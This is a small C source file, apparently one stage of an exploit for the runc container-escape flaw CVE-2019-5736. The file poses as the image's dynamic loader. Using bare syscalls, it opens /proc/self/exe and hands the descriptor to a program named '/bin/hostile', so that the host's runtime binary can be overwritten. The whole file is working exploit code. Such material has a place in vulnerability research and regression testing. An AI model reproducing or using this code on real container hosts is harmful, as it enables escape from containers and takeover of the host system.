/*
 * The image's /lib64/ld-linux-x86-64.so.2: what a foreign program that is run in the container
 * starts with. It keeps a way to that program open and becomes another one, so that nobody runs the
 * file any more when it is written to: CVE-2019-5736. Without a C library.
 */
static long call(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return result;
}

#define NR_OPEN   2
#define NR_EXECVE 59
#define NR_EXIT   60
#define O_PATH    010000000

/* The kernel does not enter it as a call would, so the stack is not aligned as for one. */
__attribute__((force_align_arg_pointer)) void _start(void);
void _start(void)
{
	static char exe[] = "/proc/self/exe";
	static char program[] = "/bin/hostile";
	static char verb[] = "exe";
	static char name[] = "0";
	char *argv[] = { program, verb, name, 0 };
	char *env[] = { 0 };

	name[0] = (char)('0' + call(NR_OPEN, (long)exe, O_PATH, 0));
	call(NR_EXECVE, (long)program, (long)argv, (long)env);
	call(NR_EXIT, 9, 0, 0);
}
